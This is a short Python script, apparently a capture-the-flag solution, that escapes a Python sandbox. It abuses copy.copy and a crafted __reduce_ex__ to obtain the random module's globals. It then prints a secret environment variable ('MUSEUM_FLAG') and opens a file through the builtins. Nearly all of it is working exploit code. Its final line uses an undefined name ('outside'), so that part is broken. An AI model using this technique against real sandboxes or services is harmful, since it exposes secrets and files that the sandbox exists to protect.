# copy does what the thing to be copied says: a recipe is a function and its arguments, and the
# library makes the call, in its own name.
import copy
import random
from operator import attrgetter


class Recipe:
    # How to make a copy of this: call that function with those arguments. Here the function is
    # one that asks a method for its globals.
    def __reduce_ex__(self, protocol):
        return attrgetter("__globals__"), (random.Random.seed,)


# copy.copy calls the function and returns what comes of it. The frame in which that happens is
# the library's, so what is hidden from this program is not hidden here.
names = copy.copy(Recipe())
print(names["_os"].environ["MUSEUM_FLAG"])
print(names["__builtins__"]["open"](outside["file"]).read())
